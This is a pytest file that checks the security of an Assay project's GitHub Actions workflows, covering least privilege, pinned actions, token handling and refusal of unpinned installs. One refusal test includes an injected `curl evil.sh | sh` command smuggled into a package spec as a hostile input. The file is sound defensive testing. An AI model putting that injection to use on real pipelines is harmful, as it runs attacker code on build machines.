"""GitHub workflows: this project's, and those `assay init --github` writes, pass actionlint and zizmor; the
reusable ones keep the properties the design asks of them (one concurrency group, least privilege, no
`pull_request_target`, the token never in a URL or an argument)."""

from __future__ import annotations

import re
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
import yaml

from assay.core.forge.base import command_of
from tests.conftest import REPO, assay, git
from tests.helpers.expressions import evaluate_expression, truthy
from tests.helpers.workflows import EXPR, evaluate

WORKFLOWS = REPO / ".github" / "workflows"
BIN = Path(sys.executable).parent
SHA = "0123456789abcdef0123456789abcdef01234567"


def lint(folder: Path) -> None:
    files = sorted(str(p) for p in folder.glob("*.yml"))
    assert files
    actionlint = subprocess.run([str(BIN / "actionlint"), *files], capture_output=True, text=True, timeout=120)
    assert actionlint.returncode == 0, actionlint.stdout + actionlint.stderr
    zizmor = subprocess.run([str(BIN / "zizmor"), "--offline", "--no-progress", *files], capture_output=True,
                            text=True, timeout=120)
    assert zizmor.returncode == 0, zizmor.stdout + zizmor.stderr


def load(name: str) -> dict[Any, Any]:
    data = yaml.safe_load((WORKFLOWS / name).read_text())
    assert isinstance(data, dict)
    return data


def test_this_projects_workflows_pass_actionlint_and_zizmor() -> None:
    assert sorted(p.name for p in WORKFLOWS.glob("*.yml")) == ["board.yml", "ci.yml", "desk.yml", "sweep.yml",
                                                              "verify.yml"]
    lint(WORKFLOWS)


def test_the_board_workflow_deploys_with_least_privilege() -> None:
    board = load("board.yml")
    assert board["permissions"] == {} and {"schedule", "workflow_call"} <= set(board[True])
    assert board["jobs"]["build"]["permissions"] == {"contents": "read", "pull-requests": "read"}
    assert board["jobs"]["deploy"]["permissions"] == {"pages": "write", "id-token": "write"}
    uses = [s["uses"] for job in board["jobs"].values() for s in job["steps"] if "uses" in s]
    assert all(re.fullmatch(r"[\w.-]+/[\w.-]+@[0-9a-f]{40}", u) for u in uses), uses
    assert any(u.startswith("actions/upload-pages-artifact@") for u in uses)
    assert any(u.startswith("actions/deploy-pages@") for u in uses)
    steps = board["jobs"]["build"]["steps"]
    assert all("${{" not in s.get("run", "") for s in steps)  # expressions reach scripts through env only
    build = next(s for s in steps if s.get("name") == "Build the board")
    assert build["env"]["GITHUB_TOKEN"] == "${{ github.token }}"  # to Assay, which keeps it out of URLs and logs
    assert "TOKEN" not in build["run"] and "GIT_CONFIG" not in build["run"] and "base64" not in build["run"]
    assert [s for s in steps if "TOKEN" in str(s.get("env", {}))] == [build]  # only the step that needs it


def test_reusable_workflows_keep_their_guarantees() -> None:
    sweep, verify, ci = load("sweep.yml"), load("verify.yml"), load("ci.yml")
    on = sweep[True]  # YAML 1.1 reads the key `on` as true
    assert {"schedule", "workflow_call", "workflow_dispatch"} <= set(on)
    assert sweep["permissions"] == {}
    assert sweep["jobs"]["sweep"]["permissions"] == {"contents": "write", "pull-requests": "read"}
    assert sweep["concurrency"]["cancel-in-progress"] is False and "assay-sweep" in sweep["concurrency"]["group"]
    assert "pull_request_target" not in verify[True] and "pull_request" in verify[True]
    assert verify["permissions"] == {"contents": "read"} and ci["permissions"] == {"contents": "read"}
    for workflow in (sweep, verify, ci):
        for job in workflow["jobs"].values():
            for step in job["steps"]:
                if "uses" in step:
                    assert re.fullmatch(r"[\w.-]+/[\w.-]+@[0-9a-f]{40}", step["uses"]), step["uses"]
                    if step["uses"].startswith("actions/checkout@"):
                        assert step["with"]["persist-credentials"] is False
                assert "${{" not in step.get("run", ""), step  # expressions reach scripts through env only
    step = next(s for s in sweep["jobs"]["sweep"]["steps"] if s.get("name") == "Sweep")
    assert step["env"]["GITHUB_TOKEN"] == "${{ github.token }}"  # to Assay, which keeps it out of URLs and logs
    assert "TOKEN" not in step["run"] and "x-access-token" not in step["run"] and "github.com" not in step["run"]
    install = next(s for s in sweep["jobs"]["sweep"]["steps"] if s.get("name") == "Install Assay")
    assert "TOKEN" not in str(install.get("env", {}))  # only the step that needs it has it


PIN = f"assay-desks @ git+https://github.com/someone/assay@{SHA}"


def install_steps(workflow: dict[Any, Any]) -> list[dict[str, Any]]:
    steps = [s for job in workflow["jobs"].values() for s in job.get("steps", []) if s.get("name") == "Install Assay"]
    assert steps and all(s == steps[0] for s in steps)  # every job installs Assay the same way
    return steps


def install_step(workflow: dict[Any, Any]) -> dict[str, Any]:
    return install_steps(workflow)[0]


@pytest.mark.parametrize("pinned", [False, True])
def test_init_github_writes_workflows_that_pass_the_linters(tmp_path: Path, pinned: bool) -> None:
    project = tmp_path / "project"
    project.mkdir()
    git("init", "-q", "--initial-branch=main", str(project))
    args = ["init", "--github"] + (["--workflows", f"someone/assay@{SHA}"] if pinned else
                                   ["--assay-from", f"someone/assay@{SHA}"])
    done = assay(*args, cwd=project, env={"PYTHONPATH": str(REPO)})
    assert done.code == 0, done.err
    written = project / ".github" / "workflows"
    assert sorted(p.name for p in written.glob("*.yml")) == ["assay-board.yml", "assay-desk.yml", "assay-sweep.yml",
                                                             "assay-verify.yml"]
    lint(written)
    sweep = yaml.safe_load((written / "assay-sweep.yml").read_text())
    board = yaml.safe_load((written / "assay-board.yml").read_text())
    if pinned:
        assert sweep["jobs"]["sweep"]["uses"] == f"someone/assay/.github/workflows/sweep.yml@{SHA}"
        assert board["jobs"]["board"]["uses"] == f"someone/assay/.github/workflows/board.yml@{SHA}"
        assert board["permissions"] == {} and {"schedule", "workflow_dispatch"} <= set(board[True])
        # a caller grants the union of what the called jobs ask for (build reads, deploy publishes), no more
        called = load("board.yml")["jobs"]
        assert board["jobs"]["board"]["permissions"] == {**called["build"]["permissions"],
                                                         **called["deploy"]["permissions"]}
        assert sweep["jobs"]["sweep"]["permissions"] == load("sweep.yml")["jobs"]["sweep"]["permissions"]
        for name in ("assay-sweep.yml", "assay-board.yml"):
            assert len((written / name).read_text().splitlines()) < 25
        for name in ("assay-sweep.yml", "assay-board.yml", "assay-verify.yml"):  # Assay at the workflows' commit
            [job] = yaml.safe_load((written / name).read_text())["jobs"].values()
            assert job["with"] == {"assay-package": PIN}
        desk, called_desk = yaml.safe_load((written / "assay-desk.yml").read_text()), load("desk.yml")
        [job] = desk["jobs"].values()
        assert job["uses"] == f"someone/assay/.github/workflows/desk.yml@{SHA}"
        assert job["with"] == {"assay-package": PIN, "desks": "${{ inputs.desks }}"}
        assert set(job["secrets"]) == set(called_desk[True]["workflow_call"]["secrets"])  # each by name, no inherit
        union: dict[str, str] = {}
        for called_job in called_desk["jobs"].values():
            for scope, access in called_job["permissions"].items():
                union[scope] = "write" if "write" in (access, union.get(scope)) else access
        assert job["permissions"] == union
        assert set(desk[True]) == set(called_desk[True]) - {"workflow_call"}  # the same events wake the desks
    else:  # copies, each installing Assay pinned to the commit, never by name
        for name in ("sweep.yml", "board.yml", "verify.yml", "desk.yml"):
            copy, shipped = yaml.safe_load((written / f"assay-{name}").read_text()), load(name)
            assert install_step(copy)["env"]["ASSAY_PACKAGE"] == PIN
            assert install_step(shipped)["env"]["ASSAY_PACKAGE"] == "${{ inputs.assay-package }}"
            for step in install_steps(copy):
                step["env"]["ASSAY_PACKAGE"] = install_step(shipped)["env"]["ASSAY_PACKAGE"]
            assert copy == shipped  # and nothing else differs


@pytest.mark.parametrize("given", ["", "assay", "assay-desks", f"someone/assay@{SHA[:12]}", "someone/assay@main",
                                   "git+https://github.com/someone/assay@main",
                                   f"git+https://user:pw@github.com/someone/assay@{SHA}",
                                   f'assay-desks @ git+https://github.com/a/b@{SHA}"; curl evil.sh | sh; "',
                                   f"git+ssh://git@github.com/someone/assay@{SHA}"])
def test_init_github_refuses_an_install_that_is_not_pinned_to_a_commit(tmp_path: Path, given: str) -> None:
    project = tmp_path / "project"
    project.mkdir()
    done = assay("init", "--github", "--assay-from", given, cwd=project, env={"PYTHONPATH": str(REPO)})
    assert done.code == 2 and "does not pin Assay to a commit" in done.err and "OWNER/REPO@COMMIT" in done.err
    assert "Traceback" not in done.err and list(project.iterdir()) == []  # nothing written


def test_init_github_without_a_pin_from_a_checkout_writes_nothing_and_says_how(tmp_path: Path) -> None:
    """This checkout's Assay is installed from a folder (pip install -e .): no commit a runner can install."""
    project = tmp_path / "project"
    project.mkdir()
    done = assay("init", "--github", cwd=project, env={"PYTHONPATH": str(REPO)})
    assert done.code == 2, done.out + done.err
    assert "installed from a folder (file://" in done.err and "--assay-from OWNER/REPO@COMMIT" in done.err
    assert list(project.iterdir()) == []


@pytest.mark.parametrize("given", [f"someone/assay@{SHA}", f"git+https://github.com/someone/assay@{SHA}",
                                   f"assay-desks @ git+https://github.com/someone/assay@{SHA}"])
def test_assay_from_takes_a_commit_in_three_spellings(tmp_path: Path, given: str) -> None:
    project = tmp_path / "project"
    project.mkdir()
    assert assay("init", "--github", "--assay-from", given, cwd=project, env={"PYTHONPATH": str(REPO)}).code == 0
    sweep = yaml.safe_load((project / ".github" / "workflows" / "assay-sweep.yml").read_text())
    assert install_step(sweep)["env"]["ASSAY_PACKAGE"] == PIN


@pytest.mark.parametrize("name", ["sweep.yml", "board.yml", "verify.yml", "desk.yml"])
@pytest.mark.parametrize("called", [True, False])
def test_the_install_step_installs_the_callers_pin_or_its_own_repositorys_commit(tmp_path: Path, name: str,
                                                                                  called: bool) -> None:
    """The shipped install step, run as written with pip replaced by a recorder: called, it installs the
    caller's pinned requirement; run in Assay's own repository, the commit it runs at (verify: the base's)."""
    shim = tmp_path / "bin"
    shim.mkdir()
    (shim / "python").write_text('#!/bin/sh\nprintf "%s\\n" "$@" > "$RECORD"\n')
    (shim / "python").chmod(0o755)
    record = tmp_path / "args"
    step = install_step(load(name))
    env = {k: EXPR.sub(lambda m: evaluate(m[1], {
        "inputs.assay-package": PIN if called else "", "github.server_url": "https://github.com",
        "github.repository": "assay-dev/assay", "github.sha": "a" * 40,
        "github.event.pull_request.base.sha": "b" * 40}), str(v)) for k, v in step["env"].items()}
    subprocess.run(["bash", "--noprofile", "--norc", "-eo", "pipefail", "-c", step["run"]], check=True,
                   env={"PATH": f"{shim}:/usr/bin:/bin", "RECORD": str(record), **env}, timeout=30)
    own = "b" * 40 if name == "verify.yml" else "a" * 40
    assert record.read_text().splitlines() == ["-m", "pip", "install", "--quiet",
                                               PIN if called else f"assay-desks @ git+https://github.com/assay-dev/assay@{own}"]
    call = load(name)[True]["workflow_call"]["inputs"]["assay-package"]
    assert call["required"] is True and "default" not in call  # a caller cannot forget to pin


def test_init_github_refuses_an_unpinned_reference(tmp_path: Path) -> None:
    project = tmp_path / "project"
    project.mkdir()
    done = assay("init", "--github", "--workflows", "someone/assay@v1", cwd=project,
                 env={"PYTHONPATH": str(REPO)})
    assert done.code == 2 and "OWNER/REPO@COMMIT" in done.err, done.err
    assert not (project / ".github").exists()


# -- the runner of workflow steps (tests/helpers/workflows.py) -----------------------------------------

def test_the_expression_runner_refuses_what_it_does_not_know() -> None:
    assert evaluate("inputs.dry-run && '--dry-run' || ''", {"inputs.dry-run": "true"}) == "--dry-run"
    assert evaluate("inputs.dry-run && '--dry-run' || ''", {}) == ""
    assert evaluate("inputs.assay-package || 'x'", {}) == "x"
    with pytest.raises(AssertionError):
        evaluate("format('{0}', github.token)", {})


def test_the_desk_workflow_keeps_secrets_to_the_agents_step_and_one_job_per_desk() -> None:
    desk = load("desk.yml")
    assert desk["permissions"] == {}
    on = desk[True]
    assert {"push", "pull_request_review", "pull_request_review_comment", "issue_comment", "pull_request",
            "workflow_run", "check_suite", "schedule", "workflow_dispatch", "workflow_call"} <= set(on)
    assert "pull_request_target" not in on
    event, run = desk["jobs"]["event"], desk["jobs"]["desk"]
    assert event["permissions"] == {"contents": "write", "pull-requests": "read", "checks": "read",
                                    "statuses": "read"}  # reads the forge, moves claims; never runs an agent
    assert run["permissions"] == {"contents": "write", "pull-requests": "write", "checks": "read",
                                  "statuses": "write"}  # between passes it reads the checks its briefs wait on
    assert run["concurrency"]["cancel-in-progress"] is False and "matrix.desk" in run["concurrency"]["group"]
    secrets = [(job, s.get("name")) for job, spec in desk["jobs"].items() for s in spec["steps"]
               if "secrets." in str(s.get("env", {}))]
    assert secrets == [("desk", "Run the desk")]  # the agent's keys reach the agent's step only
    [step] = [s for s in run["steps"] if s.get("name") == "Run the desk"]
    assert step["run"] == 'assay desk run "$DESK" --once --singleton'
    for job in desk["jobs"].values():
        for s in job["steps"]:
            assert "${{" not in s.get("run", ""), s  # expressions reach scripts through env only
            if "uses" in s:
                assert re.fullmatch(r"[\w.-]+/[\w.-]+@[0-9a-f]{40}", s["uses"]), s["uses"]
    assert "secrets: inherit" not in (WORKFLOWS / "desk.yml").read_text()


COMMENTS = ["/assay retry", " /assay retry", "\n/assay retry", "\t/assay steer Keep it short.", "/ASSAY retry",
            "/Assay steer go", "/assay", "/assayx", "please /assay retry", "", "/ass", "> /assay retry",
            "/assay steer", "/assay retry\n\nthanks"]


@pytest.mark.parametrize("body", COMMENTS)
def test_the_desk_workflow_starts_a_job_for_exactly_the_comments_assay_reads_as_commands(body: str) -> None:
    """The event job's `if:` as GitHub evaluates it, and `command_of`, on the same comment: a comment the job
    skips is no command, and every command starts the job (a command Assay does not know is answered there)."""
    condition = load("desk.yml")["jobs"]["event"]["if"]
    event = {"action": "created", "issue": {"number": 7, "pull_request": {"url": "https://api.github.com/x"}},
             "comment": {"id": 1, "body": body}}
    runs = truthy(evaluate_expression(condition, {"github": {"event_name": "issue_comment", "event": event}}))
    assert runs == (command_of(body) is not None), (body, runs, command_of(body))
    on_issue = {**event, "issue": {"number": 7}}  # a comment on an issue, not a pull request: never a job
    assert not truthy(evaluate_expression(condition, {"github": {"event_name": "issue_comment", "event": on_issue}}))


@pytest.mark.parametrize(("ref", "starts"), [("assay/gh", True), ("feature/x", False), ("assay", False),
                                            ("main", False)])
def test_the_desk_workflow_starts_a_job_for_a_review_comment_on_an_assay_branch(ref: str, starts: bool) -> None:
    """A comment in a review thread, the desk's own reply too (`assay event` finds it answered), starts the event
    job only on a brief's branch `assay/<brief>`."""
    desk = load("desk.yml")
    assert desk[True]["pull_request_review_comment"] == {"types": ["created"]}
    condition = desk["jobs"]["event"]["if"]
    event = {"action": "created", "comment": {"id": 11, "body": "Say hi twice."},
             "pull_request": {"number": 7, "head": {"ref": ref}}}
    context = {"github": {"event_name": "pull_request_review_comment", "event": event}}
    assert truthy(evaluate_expression(condition, context)) is starts


def test_the_expression_evaluator_follows_githubs_rules() -> None:
    assert evaluate_expression("startsWith('/ASSAY x', '/assay')", {}) is True
    pushed = {"github": {"event_name": "PUSH"}}
    assert evaluate_expression("contains(fromJSON('[\"push\"]'), github.event_name)", pushed) is True
    assert evaluate_expression("github.a && 'x' || 'y'", {"github": {"a": ""}}) == "y"
    assert evaluate_expression("!(github.a == 'B')", {"github": {"a": "b"}}) is False
    with pytest.raises(AssertionError):
        evaluate_expression("format('{0}', github.token)", {})
